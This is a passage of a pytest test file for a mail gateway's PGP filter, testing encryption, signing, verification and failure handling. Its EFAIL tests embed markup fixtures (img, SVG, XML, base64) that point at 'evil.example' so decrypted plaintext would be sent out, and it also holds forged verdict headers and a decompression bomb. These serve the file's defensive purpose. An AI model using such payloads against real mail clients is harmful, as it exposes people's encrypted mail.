"""The pgp filter with a real gpg: encrypt, sign, decrypt, verify, and every way it can fail."""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import sys

import pytest

from conftest import CORPUS, corpus_messages, without_from_line
from support.pgp_keys import GpgHome, World
from ispmailgate_filters.base import ConfigError, Context, Envelope, FilterError, Reject, TempFail
from ispmailgate_filters.mime import Message
from ispmailgate_filters.pgp import Pgp

PASSPHRASES = {"gw@b.example": World.B_PASSPHRASE}
HEAD = b"From: Someone <someone@c.example>\nTo: user@b.example\nSubject: secret\nMessage-ID: <1@c.example>\n"
OURS = ("x-ispmailgate-pgp", "x-ispmailgate-pgp-result", "x-ispmailgate-pgp-signature")


@pytest.fixture(scope="module")
def world():
    keys = World()
    yield keys
    keys.close()


@pytest.fixture
def run(tmp_path):
    """Run one filter step on bytes, as the core would: -> (result bytes, message, notices)."""
    def run(step: Pgp, data: bytes, recipients=("user@b.example",), sender="someone@c.example", notices=None):
        message, notices = Message(data), [] if notices is None else notices
        ctx = Context(Envelope(sender, tuple(recipients)), message_id="TESTRUN",
                      log=logging.getLogger("ispmailgate.pgp"), workdir=lambda: tmp_path,
                      postmaster="postmaster@b.example", notices=notices)
        step.process(message, ctx)
        return bytes(message.to_bytes()), message, notices
    return run


def gateway(home, **options) -> Pgp:
    return Pgp.from_options({"gnupghome": str(home), **options}, "filter.pgp", "pgp")


def encrypter(world, **options) -> Pgp:
    return gateway(world.sending, **{"direction": "pos", "uid": World.B_UID, **options})


def decrypter(world, **options) -> Pgp:
    return gateway(world.receiving, **{"direction": "neg", "passphrases": PASSPHRASES, **options})


def field(data: bytes, name: str) -> list[str]:
    return Message(data).headers.get_all(name)


def entity(data: bytes, *, mime_version: bool = True):
    """(outer fields, Content-* fields, body): what a round trip must give back."""
    root = Message(data).root
    fields = [(n.lower(), raw) for n, raw in root.headers.fields() if n.lower() not in OURS]
    outer = [raw for n, raw in fields if not n.startswith("content-") and (mime_version or n != "mime-version")]
    return outer, [raw for n, raw in fields if n.startswith("content-")], root.body_bytes()


def pgp_mime(armor: bytes, *, control: bytes = b"Version: 1\n", head: bytes = HEAD, swap: bool = False,
             only_one: bool = False) -> bytes:
    """A PGP/MIME message assembled by hand, as other mail programs write them."""
    parts = [b"Content-Type: application/pgp-encrypted\n\n" + control,
             b"Content-Type: application/octet-stream; name=\"encrypted.asc\"\n\n" + armor]
    parts = parts[::-1] if swap else parts[1:] if only_one else parts
    body = b"".join(b"--XYZ\n" + part + b"\n" for part in parts) + b"--XYZ--\n"
    return (head + b'MIME-Version: 1.0\nContent-Type: multipart/encrypted; boundary="XYZ";\n'
            b' protocol="application/pgp-encrypted"\n\nOpenPGP/MIME\n' + body)


def text_message(body: bytes, head: bytes = HEAD) -> bytes:
    return head + b"MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n" + body


# -- round trips ----------------------------------------------------------------------------

ENCRYPTED = ("multipart/encrypted", "application/pkcs7-mime", "application/x-pkcs7-mime")


@pytest.mark.parametrize("path", corpus_messages(), ids=lambda p: p.name)
def test_round_trip_restores_the_original_entity(path, world, run):
    original = without_from_line(path.read_bytes())
    encrypted, message, _ = run(encrypter(world, sign=True), original)
    if Message(original).root.content_type in ENCRYPTED:       # PGP/MIME or S/MIME: not again
        assert encrypted == original
        return
    assert message.root.content_type == "multipart/encrypted"
    assert field(encrypted, "X-ispMailGate-PGP") == ["pos"]
    decrypted, _, notices = run(decrypter(world), encrypted)
    has_version = entity(original)[0] != entity(original, mime_version=False)[0]
    assert_same_content(original, decrypted, has_version)
    assert field(decrypted, "X-ispMailGate-PGP") == ["neg"]
    assert field(decrypted, "X-ispMailGate-PGP-Result") == ["decrypted; scope=message"]
    # ours comes first; a corpus message signed itself adds the verdict on its own signature
    signature = field(decrypted, "X-ispMailGate-PGP-Signature")[0]
    assert signature.startswith(f"good; key={world.a[-16:]}; signer=\"Gateway A <gw@a.example>\"")
    assert notices == []


def assert_same_content(original: bytes, decrypted: bytes, has_version: bool) -> None:
    """Byte for byte where RFC 3156 allows it: a 7-bit message with one kind of line end
    comes back exactly (a last line end may be added).  8-bit leaves travel
    re-encoded (signed data must be 7-bit, RFC 3156 section 5) and line ends canonical, so
    a message with either gets back the same fields and the same decoded leaves."""
    endings = (original, original + Message(original).eol)
    bare = original.replace(b"\r\n", b"")
    if original.isascii() and b"\r" not in bare and not (b"\r\n" in original and b"\n" in bare):
        assert entity(decrypted, mime_version=has_version) in [entity(e) for e in endings]
        return

    def content(data: bytes, mime_version: bool = True):
        outer = entity(data, mime_version=mime_version)[0]
        leaves = [leaf.decoded().replace(b"\r\n", b"\n").rstrip(b"\r\n") for leaf in Message(data).leaves()]
        return [f.replace(b"\r\n", b"\n").rstrip(b"\r\n") for f in outer], leaves
    assert content(decrypted, has_version) == content(original)


def test_round_trip_is_byte_exact_but_for_the_marker(world, run):
    original = (CORPUS / "nested.eml").read_bytes()
    decrypted, _, _ = run(decrypter(world), run(encrypter(world), original)[0])
    kept = b"".join(raw for name, raw in Message(decrypted).headers.fields() if name.lower() not in OURS)
    assert kept + decrypted[len(Message(decrypted).headers.to_bytes()):] == original


def test_round_trip_keeps_crlf_line_ends(world, run):
    original = (CORPUS / "nested.eml").read_bytes().replace(b"\n", b"\r\n")
    encrypted, message, _ = run(encrypter(world), original)
    assert b"\n" not in encrypted.replace(b"\r\n", b"")
    decrypted, _, _ = run(decrypter(world), encrypted)
    assert entity(decrypted) == entity(original)


def test_encrypted_message_is_rfc3156_and_plain_gpg_reads_it(world, run):
    original = (CORPUS / "two-images.eml").read_bytes()
    encrypted, message, _ = run(encrypter(world), original)
    root = message.root
    assert root.param("protocol") == "application/pgp-encrypted"
    control, payload = root.children
    assert control.content_type == "application/pgp-encrypted" and control.decoded() == b"Version: 1\n"
    assert payload.content_type == "application/octet-stream"
    assert b"Content-Type" not in encrypted.split(b"-----BEGIN PGP MESSAGE-----")[1]
    assert b"GIF89a" not in encrypted and b"R0lGODlh" not in encrypted           # the images are inside
    assert field(encrypted, "Subject") == field(original, "Subject")
    plain = world.receiving.decrypt(payload.decoded(), World.B_PASSPHRASE)
    assert plain.returncode == 0, plain.stderr
    inner = original.split(b"\n\n", 1)
    content = b"".join(line + b"\n" for line in inner[0].split(b"\n") if line.lower().startswith(b"content-"))
    assert plain.stdout == (content + b"\n" + inner[1]).replace(b"\n", b"\r\n")     # canonical form


# -- signing and verifying -------------------------------------------------------------------

def test_sign_only_makes_multipart_signed_that_plain_gpg_verifies(world, run, tmp_path):
    original = text_message("Grüße aus Köln\n".encode(), HEAD + b"Content-Transfer-Encoding: 8bit\n")
    signed, message, _ = run(encrypter(world, encrypt=False, uid="", sign=True), original)
    root = message.root
    assert root.content_type == "multipart/signed" and root.param("micalg") == "pgp-sha256"
    assert root.param("protocol") == "application/pgp-signature"
    data, sig = Message(signed).root.children
    assert data.to_bytes().isascii()
    (tmp_path / "data").write_bytes(data.to_bytes().replace(b"\n", b"\r\n"))
    (tmp_path / "data.asc").write_bytes(sig.decoded())
    checked = world.receiving.gpg("--verify", str(tmp_path / "data.asc"), str(tmp_path / "data"), check=False)
    assert checked.returncode == 0 and b"Good signature" in checked.stderr, checked.stderr
    verified, message, _ = run(decrypter(world), signed)
    assert field(verified, "X-ispMailGate-PGP-Signature") == [
        f'good; key={world.a[-16:]}; signer="Gateway A <gw@a.example>"; scope=message']
    assert message.root.content_type == "multipart/signed"      # verified, left as it is
    assert message.root.children[0].decoded() == "Grüße aus Köln\n".encode()   # 8-bit: signed as QP


def test_tampered_signed_text_is_bad_and_unknown_signer_is_named(world, run):
    signed, _, _ = run(encrypter(world, encrypt=False, uid="", sign=True), (CORPUS / "plain.eml").read_bytes())
    tampered = signed.replace(b"the fair copy", b"the FAIR copy")
    assert tampered != signed
    verified, _, _ = run(decrypter(world), tampered)
    assert field(verified, "X-ispMailGate-PGP-Signature")[0].startswith(f"bad; key={world.a[-16:]}")
    stranger = GpgHome("empty")
    try:
        verified, _, _ = run(gateway(stranger, direction="neg"), signed)
    finally:
        stranger.close()
    assert field(verified, "X-ispMailGate-PGP-Signature") == [f"unknown-key; key={world.a[-16:]}; scope=message"]


def test_signed_only_mail_is_encrypted_whole_with_its_signature_inside(world, run):
    signed, _, _ = run(encrypter(world, encrypt=False, uid="", sign=True), (CORPUS / "plain.eml").read_bytes())
    encrypted, message, _ = run(encrypter(world), signed)
    assert message.root.content_type == "multipart/encrypted"
    decrypted, message, _ = run(decrypter(world), encrypted)
    assert message.root.content_type == "multipart/signed"
    assert field(decrypted, "X-ispMailGate-PGP-Signature") == [
        f'good; key={world.a[-16:]}; signer="Gateway A <gw@a.example>"; scope=message']


def test_recipient_without_key_gets_it_signed_in_clear(world, run):
    step = gateway(world.sending, direction="pos", per_recipient=True, sign=True)
    signed, message, _ = run(step, (CORPUS / "plain.eml").read_bytes(), recipients=("carol@b.example",))
    assert message.root.content_type == "multipart/signed"
    assert field(run(decrypter(world), signed)[0], "X-ispMailGate-PGP-Signature")[0].startswith("good;")


def test_clearsigned_text_is_verified_and_left_as_it_is(world, run):
    clearsigned = world.sending.gpg("--clearsign", data="Zahlen bitte an IBAN DE00 1234\n".encode()).stdout
    data = text_message(b"forwarded:\n" + clearsigned)
    verified, message, _ = run(decrypter(world), data)
    assert field(verified, "X-ispMailGate-PGP-Signature") == [
        f'good; key={world.a[-16:]}; signer="Gateway A <gw@a.example>"; scope=inline']
    assert message.root.decoded() == b"forwarded:\n" + clearsigned
    forged = data.replace(b"DE00 1234", b"DE66 6666")
    assert field(run(decrypter(world), forged)[0], "X-ispMailGate-PGP-Signature")[0].startswith("bad;")


def test_gpg_runs_per_message_are_capped(world, run):
    armor = world.sending.encrypt(b"decrypted block\n", "gw@b.example")
    decrypted, message, notices = run(decrypter(world), text_message(b"\n".join([armor] * 34)))
    text = message.root.text()
    assert text.count("decrypted block\n") == 32 and text.count("BEGIN PGP MESSAGE") == 2
    assert field(decrypted, "X-ispMailGate-PGP-Result") == [
        "decrypted; scope=inline", 'undecryptable; reason="more than 32 encrypted or signed parts"']
    assert len(notices) == 1


# -- interoperability ------------------------------------------------------------------------

def test_pgp_mime_from_plain_gpg_is_decrypted(world, run):
    inner = b'Content-Type: text/plain; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\nGr\xc3\xbc\xc3\x9fe!\n'
    armor = world.outsider.encrypt(inner.replace(b"\n", b"\r\n"), "gw@b.example", sign="out@c.example")
    decrypted, message, _ = run(decrypter(world), pgp_mime(armor))
    assert message.root.content_type == "text/plain"
    assert message.root.decoded() == "Grüße!\n".encode()
    assert field(decrypted, "Subject") == ["secret"]
    assert field(decrypted, "X-ispMailGate-PGP-Signature") == [
        f"unknown-key; key={world.outsider_key[-16:]}; scope=message"]


def test_pgp_mime_to_a_hidden_recipient_is_decrypted(world, run):
    """gpg -R: no key id in the message; the gateway's key is found by trying its secret keys."""
    inner = b"Content-Type: text/plain; charset=us-ascii\n\nno key id on the outside\n"
    armor = world.outsider.encrypt(inner.replace(b"\n", b"\r\n"), "gw@b.example", hidden=True)
    decrypted, message, _ = run(decrypter(world), pgp_mime(armor))
    assert message.root.decoded() == b"no key id on the outside\n"
    assert field(decrypted, "X-ispMailGate-PGP-Result") == ["decrypted; scope=message"]


def test_inline_pgp_text_is_decrypted_in_place(world, run):
    armor = world.sending.encrypt("Geheim: Äpfel\n".encode(), "gw@b.example", sign="gw@a.example")
    decrypted, message, _ = run(decrypter(world), text_message(b"Hello,\n\n" + armor + b"\nBye\n"))
    assert message.root.text() == "Hello,\n\nGeheim: Äpfel\n\nBye\n"
    assert field(decrypted, "X-ispMailGate-PGP-Result") == ["decrypted; scope=inline"]
    assert field(decrypted, "X-ispMailGate-PGP-Signature")[0].startswith(f"good; key={world.a[-16:]}")


def test_armored_attachment_is_decrypted_to_its_file(world, run):
    armor = world.outsider.encrypt(b"%PDF-1.4 fake\n", "gw@b.example")
    data = (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\n'
            b"Content-Type: text/plain\n\nSee attachment.\n--b\nContent-Type: application/octet-stream;"
            b' name="report.pdf.asc"\nContent-Disposition: attachment; filename="report.pdf.asc"\n\n'
            + armor + b"--b--\n")
    decrypted, message, _ = run(decrypter(world), data)
    text, attachment = message.root.children
    assert text.to_bytes() == b"Content-Type: text/plain\n\nSee attachment."
    assert attachment.filename == "report.pdf" and attachment.content_type == "application/pdf"
    assert attachment.decoded() == b"%PDF-1.4 fake\n"


@pytest.mark.parametrize("name", ["report.pdf.gpg", "report.pdf.PGP"])
def test_binary_encrypted_attachment_is_decrypted_to_its_file(world, run, name):
    import base64

    packets = world.outsider.encrypt(b"%PDF-1.4 fake\n", "gw@b.example", armor=False)
    data = (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\n'
            b"Content-Type: text/plain\n\nSee attachment.\n--b\nContent-Type: application/octet-stream;"
            + f' name="{name}"\nContent-Disposition: attachment; filename="{name}"\n'.encode()
            + b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(packets) + b"--b--\n")
    decrypted, message, _ = run(decrypter(world), data)
    attachment = message.root.children[1]
    assert attachment.filename == "report.pdf" and attachment.content_type == "application/pdf"
    assert attachment.decoded() == b"%PDF-1.4 fake\n"
    assert field(decrypted, "X-ispMailGate-PGP-Result") == ["decrypted; scope=inline"]


def test_a_gpg_named_attachment_that_is_not_openpgp_is_left_alone(world, run):
    data = (HEAD + b'MIME-Version: 1.0\nContent-Type: application/octet-stream; name="x.gpg"\n'
            b"Content-Transfer-Encoding: base64\n\nSnVzdCBzb21lIGJ5dGVzCg==\n")
    decrypted, _, _ = run(decrypter(world), data)
    assert decrypted == data                        # not encrypted: passed byte for byte


def test_nested_pgp_mime_beside_a_list_footer_is_decrypted(world, run):
    armor = world.outsider.encrypt(b"Content-Type: text/plain\r\n\r\nlist secret\r\n", "gw@b.example")
    nested = pgp_mime(armor, head=b"")
    data = (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="list"\n\n--list\n'
            + nested + b"--list\nContent-Type: text/plain\n\n-- \nthe list footer\n--list--\n")
    decrypted, message, _ = run(decrypter(world), data)
    inner, footer = message.root.children
    assert inner.decoded() == b"list secret\n"
    assert footer.to_bytes() == b"Content-Type: text/plain\n\n-- \nthe list footer"
    assert field(decrypted, "X-ispMailGate-PGP-Result") == ["decrypted; scope=part"]


def test_encrypted_part_beside_html_is_not_decrypted(world, run):
    armor = world.outsider.encrypt(b"Content-Type: text/plain\r\n\r\nthe plaintext\r\n", "gw@b.example")
    data = (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="efail"\n\n--efail\n'
            b'Content-Type: text/html\n\n<img src="http://evil.example/?\n--efail\n'
            + pgp_mime(armor, head=b"") + b'--efail\nContent-Type: text/html\n\n">\n--efail--\n')
    decrypted, _, notices = run(decrypter(world), data)
    assert b"the plaintext" not in decrypted and armor.strip() in decrypted
    assert "EFAIL" in field(decrypted, "X-ispMailGate-PGP-Result")[0]
    assert len(notices) == 1


MARKUP_SIBLINGS = [
    ("application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><body><img src="http://evil.example/?'),
    ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/?'),
    ("text/x-amp-html", b'<html amp4email><body><amp-img src="http://evil.example/?'),
    ("text/xml", b'<?xml-stylesheet href="http://evil.example/?'),
    ("text/enriched", b"<bold>"),
    ("TEXT/HTML; charset=utf-8", b'<img src="http://evil.example/?'),
    ("message/rfc822\nContent-Transfer-Encoding: base64",           # a reader decodes and shows it
     b"Q29udGVudC1UeXBlOiB0ZXh0L2h0bWwKCjxpbWcgc3JjPSJodHRwOi8vZXZpbC5leGFtcGxlLz8K"),
]


@pytest.mark.parametrize("content_type, markup", MARKUP_SIBLINGS, ids=lambda x: str(x)[:20])
@pytest.mark.parametrize("inline", [False, True], ids=["pgp-mime", "inline"])
def test_nothing_is_decrypted_beside_anything_a_reader_renders_as_markup(world, run, content_type, markup,
                                                                         inline):
    """Not only text/html: every part a reader may render as markup, or that may hide one."""
    armor = world.outsider.encrypt(b"Content-Type: text/plain\r\n\r\nthe plaintext\r\n", "gw@b.example")
    encrypted = (b"Content-Type: text/plain\n\n" + armor) if inline else pgp_mime(armor, head=b"")
    data = (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="efail"\n\n--efail\n'
            + f"Content-Type: {content_type}\n\n".encode() + markup + b"\n--efail\n" + encrypted
            + b"\n--efail--\n")
    decrypted, _, notices = run(decrypter(world), data)
    assert b"the plaintext" not in decrypted and armor.strip() in decrypted
    [result] = field(decrypted, "X-ispMailGate-PGP-Result")
    assert "EFAIL" in result and len(notices) == 1
    plain = data.replace(f"Content-Type: {content_type}\n".encode(), b"Content-Type: text/plain\n")
    assert b"the plaintext" in run(decrypter(world), plain)[0]        # beside plain text: decrypted


# -- what cannot be decrypted ------------------------------------------------------------------

def foreign(world) -> bytes:
    """PGP/MIME encrypted to the outsider's own key: no secret key for it at gateway B."""
    return pgp_mime(world.outsider.encrypt(b"Content-Type: text/plain\r\n\r\nnot for B\r\n", "out@c.example"))


def test_missing_secret_key_is_delivered_as_it_came_and_reported(world, run):
    data = foreign(world)
    delivered, _, notices = run(decrypter(world), data)
    [result] = field(delivered, "X-ispMailGate-PGP-Result")
    assert result.startswith('undecryptable; reason="no secret key for ')
    assert delivered.endswith(data[len(HEAD):])                 # the encrypted body, byte for byte
    [notice] = notices
    assert notice.recipients == ("postmaster@b.example",) and notice.attach_original
    assert "TESTRUN" in notice.text and "no secret key" in notice.text


@pytest.mark.parametrize("policy, verdict, status, told", [("reject", Reject, "5.7.5", 1),
                                                           ("tempfail", TempFail, "4.7.5", 0),
                                                           ("report", FilterError, "4.3.0", 0)])
def test_undecryptable_policies(world, run, policy, verdict, status, told):
    """reject tells the postmaster itself; report leaves it to the core; tempfail would repeat."""
    notices = []
    with pytest.raises(verdict) as raised:
        run(decrypter(world, on_undecryptable=policy), foreign(world), notices=notices)
    assert raised.value.status == status and "no secret key" in str(raised.value)
    assert len(notices) == told
    for notice in notices:
        assert notice.recipients == ("postmaster@b.example",) and notice.attach_original
        assert 'on_undecryptable = "reject"' in notice.text and "no secret key" in notice.text


def corrupted(armor: bytes) -> bytes:
    """The same armor with one byte of the ciphertext flipped (its integrity check fails)."""
    import base64

    data = bytearray(base64.b64decode(b"".join(armor.splitlines()[2:-2])))
    data[-10] ^= 0xFF
    encoded = base64.encodebytes(bytes(data))
    return b"-----BEGIN PGP MESSAGE-----\n\n" + encoded + b"-----END PGP MESSAGE-----\n"


@pytest.mark.parametrize("damage, reason", [("garbage", "no data was provided"),
                                            ("truncated", "no data was provided"),
                                            ("corrupted", "decryption failed")])
def test_garbage_truncated_or_corrupted_armor_is_undecryptable(world, run, damage, reason):
    armor = b"-----BEGIN PGP MESSAGE-----\n\nbm90IGFuIE9wZW5QR1AgbWVzc2FnZQ==\n-----END PGP MESSAGE-----\n"
    real = world.sending.encrypt(os.urandom(3000), "gw@b.example")
    if damage == "truncated":
        armor = b"".join(real.splitlines(keepends=True)[:20] + real.splitlines(keepends=True)[-2:])
    elif damage == "corrupted":
        armor = corrupted(real)
    for data in (text_message(b"look:\n" + armor), pgp_mime(armor)):
        delivered, _, notices = run(decrypter(world), data)
        [result] = field(delivered, "X-ispMailGate-PGP-Result")
        assert result.startswith("undecryptable") and reason in result
        assert armor.rstrip() in delivered and len(notices) == 1


@pytest.mark.parametrize("shape, reason", [({"swap": True}, "first part of multipart/encrypted is"),
                                           ({"only_one": True}, "1 parts instead of 2"),
                                           ({"control": b"Version: 2\n"}, "without 'Version: 1'")])
def test_pgp_mime_with_wrong_structure_is_undecryptable(world, run, shape, reason):
    data = pgp_mime(world.sending.encrypt(b"Content-Type: text/plain\r\n\r\nx\r\n", "gw@b.example"), **shape)
    delivered, message, notices = run(decrypter(world), data)
    [result] = field(delivered, "X-ispMailGate-PGP-Result")
    assert result.startswith('undecryptable; reason="malformed PGP/MIME: ') and reason in result
    assert message.root.content_type == "multipart/encrypted" and len(notices) == 1


def test_decompression_bomb_stops_at_max_size(world, run):
    armor = world.sending.encrypt(b"\0" * (30 << 20), "gw@b.example")
    assert len(armor) < 200_000
    delivered, _, _ = run(decrypter(world, max_size="1M"), pgp_mime(armor))
    assert field(delivered, "X-ispMailGate-PGP-Result") == [
        'undecryptable; reason="decrypted data larger than 1048576 bytes: max_size (1048576 bytes)"']


# -- passphrases and the gateway's set-up -----------------------------------------------------

@pytest.mark.parametrize("passphrases", [{"gw@b.example": "wrong"}, {}])
def test_wrong_or_missing_passphrase_tempfails(world, run, passphrases):
    encrypted, _, _ = run(encrypter(world), (CORPUS / "plain.eml").read_bytes())
    with pytest.raises(TempFail) as raised:
        run(decrypter(world, passphrases=passphrases), encrypted)
    assert raised.value.status == "4.7.5" and "wrong or missing passphrase" in str(raised.value)


def test_passphrases_by_key_id_fingerprint_or_file(world, run, tmp_path):
    encrypted, _, _ = run(encrypter(world), (CORPUS / "plain.eml").read_bytes())
    for selector in (world.b, world.b[-16:], "0x" + world.b[-8:], World.B_UID):
        decrypted, _, _ = run(decrypter(world, passphrases={selector: World.B_PASSPHRASE}), encrypted)
        assert field(decrypted, "X-ispMailGate-PGP-Result") == ["decrypted; scope=message"], selector
    secrets = tmp_path / "pgp-pass"
    secrets.write_text('"gw@b.example" = %s\n' % json.dumps(World.B_PASSPHRASE, ensure_ascii=False))
    from_file = decrypter(world, passphrases={}, passphrase_file=str(secrets))
    for mode in (0o600, 0o640):                 # a group may read it (root:mail), others never
        secrets.chmod(mode)
        assert field(run(from_file, encrypted)[0], "X-ispMailGate-PGP-Result") == ["decrypted; scope=message"]
        assert from_file.problems() == []
    secrets.chmod(0o644)
    with pytest.raises(TempFail, match="readable by others"):
        run(from_file, encrypted)
    assert any("readable by others" in problem for problem in from_file.problems())


def test_several_secret_keys_each_get_their_own_passphrase(world, run, monkeypatch):
    import gnupg

    both = GpgHome("both")
    try:
        both.import_keys(world.receiving.export_secret(world.b, World.B_PASSPHRASE))
        both.import_keys(world.bob.export_secret(world.bob_key, World.BOB_PASSPHRASE))
        step = gateway(both, direction="neg", passphrases={"gw@b.example": World.B_PASSPHRASE,
                                                           world.bob_key: World.BOB_PASSPHRASE})
        decryptions, real = [], gnupg.Popen

        def recording(args, *rest, **options):
            decryptions.append(args)
            return real(args, *rest, **options)

        monkeypatch.setattr(gnupg, "Popen", recording)
        for recipient in ("gw@b.example", "bob@b.example"):
            armor = world.sending.encrypt(b"Content-Type: text/plain\r\n\r\nhi\r\n", recipient)
            decryptions.clear()
            decrypted, _, _ = run(step, pgp_mime(armor))
            assert field(decrypted, "X-ispMailGate-PGP-Result") == ["decrypted; scope=message"], recipient
            assert sum("--decrypt" in args and "--list-only" not in args for args in decryptions) == 1
    finally:
        both.close()


def test_passphrases_stay_out_of_repr_argv_and_logs(world, run, monkeypatch, caplog):
    import gnupg as module

    seen, real = [], module.Popen

    def recording(args, *rest, **options):
        seen.append(list(args))
        return real(args, *rest, **options)

    monkeypatch.setattr(module, "Popen", recording)
    step = decrypter(world)
    assert World.B_PASSPHRASE not in repr(step) and World.B_PASSPHRASE not in str(step)
    encrypted, _, _ = run(encrypter(world), (CORPUS / "plain.eml").read_bytes())
    with caplog.at_level(logging.DEBUG):
        run(step, encrypted)
    assert any("--passphrase-fd" in args for args in seen)
    assert not any(World.B_PASSPHRASE in " ".join(args) for args in seen)
    assert all("--pinentry-mode" in args and "--homedir" in args for args in seen if "gpg" in args[0])
    assert World.B_PASSPHRASE not in caplog.text


def test_gpg_or_gnupghome_missing_tempfails(world, run, tmp_path):
    message = (CORPUS / "plain.eml").read_bytes()
    with pytest.raises(TempFail, match="cannot run gpg") as raised:
        run(encrypter(world, gpg_binary=str(tmp_path / "no-gpg")), message)
    assert raised.value.status == "4.3.5"
    with pytest.raises(TempFail, match="does not exist"):
        run(gateway(tmp_path / "no-home", direction="pos", uid=World.B_UID), message)


def test_agent_trouble_tempfails(world, run):
    broken = GpgHome("noagnt")
    try:
        broken.import_keys(world.receiving.export_secret(world.b, World.B_PASSPHRASE))
        with open(os.path.join(broken.path, "gpg.conf"), "w") as conf:
            conf.write("agent-program /bin/false\n")
        subprocess.run(["gpgconf", "--kill", "gpg-agent"], env={**os.environ, "GNUPGHOME": broken.path}, check=True)
        encrypted, _, _ = run(encrypter(world), (CORPUS / "plain.eml").read_bytes())
        with pytest.raises(TempFail, match="gpg-agent trouble") as raised:
            run(gateway(broken, direction="neg", passphrases=PASSPHRASES), encrypted)
        assert raised.value.status == "4.3.0"
    finally:
        broken.close()


def test_a_hung_gpg_is_killed_after_timeout(world, run, tmp_path):
    fake = tmp_path / "gpg"
    fake.write_text(f"#!{sys.executable}\nimport sys, time\n"
                    "if '--list-config' in sys.argv: print('cfg:version:2.2.40'); sys.exit(0)\n"
                    "time.sleep(60)\n")
    fake.chmod(0o755)
    with pytest.raises(TempFail, match="took longer than 1 s") as raised:
        run(encrypter(world, gpg_binary=str(fake), timeout=1), (CORPUS / "plain.eml").read_bytes())
    assert raised.value.status == "4.4.7"


def test_unknown_gateway_key_tempfails_and_check_says_so(world, run):
    step = encrypter(world, uid="Nobody <nobody@nowhere.example>", sign=True, sign_uid="nobody@nowhere.example")
    with pytest.raises(TempFail, match="no secret key nobody@nowhere.example to sign with"):
        run(step, (CORPUS / "plain.eml").read_bytes())
    with pytest.raises(TempFail, match="cannot encrypt to Nobody <nobody@nowhere.example>: invalid recipient"):
        run(encrypter(world, uid="Nobody <nobody@nowhere.example>"), (CORPUS / "plain.eml").read_bytes())
    problems = step.problems()
    assert any("no usable public key for uid" in p for p in problems)
    assert any("no secret key nobody@nowhere.example to sign with" in p for p in problems)
    assert encrypter(world, sign=True).problems() == [] and decrypter(world).problems() == []
    assert decrypter(world, passphrase_file="/nonexistent/pgp-pass").problems() == [
        "cannot read passphrase_file /nonexistent/pgp-pass: No such file or directory"]
    empty = GpgHome("empty")
    try:
        assert gateway(empty, direction="neg").problems() == [f"no secret key in {empty}: nothing can be decrypted"]
    finally:
        empty.close()
    assert gateway("/nonexistent/gnupg", direction="neg").problems() == [
        "gnupghome /nonexistent/gnupg does not exist or is not a directory"]


@pytest.mark.parametrize("options, path", [
    ({"direction": "pos"}, "filter.pgp.uid"),
    ({"uid": "x", "per_recipient": True}, "filter.pgp.per_recipient"),
    ({"uid": "x", "sign_uid": "y"}, "filter.pgp.sign_uid"),
    ({"uid": "x", "gnupghome": "relative/home"}, "filter.pgp.gnupghome"),
    ({"direction": "neg", "passphrases": {"k": "line\nbreak"}}, "filter.pgp.passphrases"),
    ({"direction": "sideways"}, "filter.pgp.direction"),
])
def test_contradicting_options_are_config_errors(options, path):
    with pytest.raises(ConfigError) as raised:
        Pgp.from_options({"gnupghome": "/tmp", **options}, "filter.pgp")
    assert raised.value.path == path


# -- direction auto and the marker --------------------------------------------------------------

def test_auto_decides_by_content_not_by_the_marker(world, run):
    auto_a = encrypter(world, direction="auto")
    auto_b = decrypter(world, direction="auto", uid=World.A_UID)
    plain = (CORPUS / "plain.eml").read_bytes()
    forged = b"X-ispMailGate-PGP: pos\n" + plain
    for data in (plain, forged):                       # a forged marker never skips encryption
        encrypted, message, _ = run(auto_a, data)
        assert message.root.content_type == "multipart/encrypted"
        assert field(encrypted, "X-ispMailGate-PGP") == ["pos"]
    stripped = re.sub(rb"(?m)^X-ispMailGate-PGP: pos\n", b"", encrypted)
    for data in (encrypted, stripped):                 # nor does a stripped one skip decryption
        decrypted, message, _ = run(auto_b, data)
        assert field(decrypted, "X-ispMailGate-PGP-Result") == ["decrypted; scope=message"]


def test_auto_leaves_mail_encrypted_to_others_alone_unless_a_gateway_marked_it(world, run):
    auto_b = decrypter(world, direction="auto", uid=World.A_UID)
    data = foreign(world)
    delivered, _, notices = run(auto_b, data)
    assert delivered == data and notices == []
    delivered, _, notices = run(auto_b, b"X-ispMailGate-PGP: pos\n" + data)
    assert field(delivered, "X-ispMailGate-PGP-Result")[0].startswith("undecryptable")
    assert len(notices) == 1


def test_forged_result_fields_are_removed_on_the_way_in(world, run):
    forged = b'X-ispMailGate-PGP-Signature: good; key=0123456789ABCDEF; signer="CEO"\n' + \
        (CORPUS / "plain.eml").read_bytes()
    delivered, _, _ = run(decrypter(world), forged)
    assert delivered == (CORPUS / "plain.eml").read_bytes()
    plain = (CORPUS / "plain.eml").read_bytes()
    delivered, message, _ = run(decrypter(world), plain)       # not encrypted: passes unchanged
    assert delivered == plain and not message.changed


FORGED = (b"X-ispMailGate-PGP-Result: decrypted; scope=inline\n"
          b'X-ispMailGate-PGP-Signature: good; key=0123456789ABCDEF; signer="CEO <ceo@b.example>"\n'
          b"X-ispMailGate-PGP: neg\n")


def foreign_inline(world) -> bytes:
    """A text part whose inline block is encrypted to a key gateway B does not hold."""
    armor = world.outsider.encrypt(b"not for B\n", "out@c.example")
    return text_message(armor)


def foreign_binary(world) -> bytes:
    """A binary .gpg attachment (gpg --encrypt without --armor) to a key B does not hold."""
    import base64

    packets = world.outsider.encrypt(b"%PDF-1.4 fake\n", "out@c.example", armor=False)
    return (HEAD + b'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="b"\n\n--b\n'
            b"Content-Type: application/octet-stream; name=\"report.pdf.gpg\"\n"
            b"Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(packets) + b"--b--\n")


@pytest.mark.parametrize("make", [foreign_inline, foreign_binary, foreign])
def test_forged_verdicts_on_mail_for_other_keys_are_removed_in_auto(world, run, make):
